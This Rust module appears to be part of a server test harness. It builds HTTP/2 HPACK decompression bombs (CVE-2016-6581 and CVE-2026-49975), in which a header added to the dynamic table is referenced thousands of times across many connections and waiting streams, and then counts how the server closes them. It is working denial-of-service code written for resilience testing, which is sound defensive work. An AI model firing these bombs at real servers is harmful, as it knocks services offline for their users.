//! Little on the wire that is much once it is decoded (CVE-2016-6581, CVE-2026-49975): references to large lines, crumbs of
//! cookies, and many heads that wait at the same time.

use super::arena::Arena;
use super::frames::{Block, END_STREAM};
use super::http2::Http2;
use super::resets::Trigger;
use super::rows::Outcome;
use super::wire::within;
use std::time::Duration;

/// The first entry of the dynamic table (RFC 7541 section 2.3.3).
const NEWEST: usize = 62;

pub(super) const BOMBS: &[Trigger] = &[
    Trigger {
        name: "h2-bomb-references",
        does: "100 connections, 10 blocks each of 12,000 references to a line of 4 kB",
        run: |arena| {
            explode(
                arena,
                &Bomb { connections: 100, streams: 10, line: ("x-bomb", 3900), references: 12_000 },
            )
        },
    },
    Trigger {
        name: "h2-bomb-cookies",
        does: "100 connections, 10 blocks each of 14,000 references to a cookie of 3 octets",
        run: |arena| {
            explode(arena, &Bomb { connections: 100, streams: 10, line: ("cookie", 3), references: 14_000 })
        },
    },
    Trigger {
        name: "h2-bomb-crumbs",
        does: "100 connections of 100 waiting requests, each with 150 references to a cookie of 3 octets",
        run: |arena| {
            explode(arena, &Bomb { connections: 100, streams: 100, line: ("cookie", 3), references: 150 })
        },
    },
    Trigger {
        name: "h2-bomb-waiting",
        does: "20 connections of 100 waiting requests, each with 3 references to a line of 4 kB",
        run: |arena| {
            explode(arena, &Bomb { connections: 20, streams: 100, line: ("x-bomb", 3900), references: 3 })
        },
    },
];

struct Bomb {
    connections: usize,
    streams: usize,
    /// The name of the line that is put into the table, and how long its value is.
    line: (&'static str, usize),
    references: usize,
}

fn explode(arena: &Arena<'_>, bomb: &Bomb) -> Outcome {
    let mut clients: Vec<Http2> = (0..bomb.connections).filter_map(|_| light(arena, bomb)).collect();
    arena.hold();
    for client in &mut clients {
        drop(client.send(&[], within(Duration::from_millis(10))));
    }
    let closed = clients.iter_mut().filter(|client| client.wire.closed).count();
    let ended: u64 = clients.iter().map(|client| client.seen.ended).sum();
    let notes = vec![format!("{closed} of {} connections closed, {ended} streams ended", bomb.connections)];
    Outcome { goaways: clients.iter().map(|client| client.seen.goaways).sum(), notes, ..Outcome::default() }
}

/// Opens a connection, puts the line into its table and refers to it on every stream.
fn light(arena: &Arena<'_>, bomb: &Bomb) -> Option<Http2> {
    // Somebody who takes no more is left as it is.
    let until = || within(Duration::from_millis(200)).min(arena.until);
    let mut client = Http2::open(arena.ports.http2, &[], until()).ok()?;
    let (name, bytes) = bomb.line;
    let mut blocks = Vec::new();
    for number in 0..bomb.streams {
        let mut block = Block::get("/wait");
        if number == 0 {
            block = block.remembered(name, "v".repeat(bytes));
        }
        for _ in 0..bomb.references {
            block = block.indexed(NEWEST);
        }
        let stream = client.stream();
        block.headers(&mut blocks, stream, END_STREAM);
    }
    // A connection that is closed or full has said what it has to say.
    drop(client.send(&blocks, until()));
    Some(client)
}
